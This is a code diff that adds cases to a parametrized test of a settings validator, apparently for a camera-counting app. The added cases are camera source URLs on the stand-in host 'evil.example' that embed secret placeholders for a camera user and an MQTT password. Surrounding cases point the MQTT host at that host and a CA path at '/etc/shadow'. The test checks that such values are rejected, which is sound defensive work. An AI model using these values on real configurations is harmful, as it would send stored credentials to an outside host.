@@ -96,6 +96,8 @@ def test_what_may_be_changed_by_whom(asked: Asked, path: str, value: object, lea
         ("mqtt.host", "evil.example", "is changed in the config file only"),
         ("cameras.entrance.detector", {"model": "/etc/x.onnx"}, "is changed in the config file only"),
         ("cameras.back", {"source": "0", "ca": "/etc/shadow"}, "is changed in the config file only"),
+        ("cameras.back", {"source": "http://{EDGECOUNT_CAMERA_USER}:x@evil.example/"}, "without placeholders"),
+        ("cameras.entrance.source", "http://evil.example/{EDGECOUNT_MQTT_PASSWORD}", "without placeholders"),
         ("site.name", "", "has no value"),
         ("site.capacity", "many", "must be a whole number"),
         ("site.name", "two\nlines", "must be one line"),
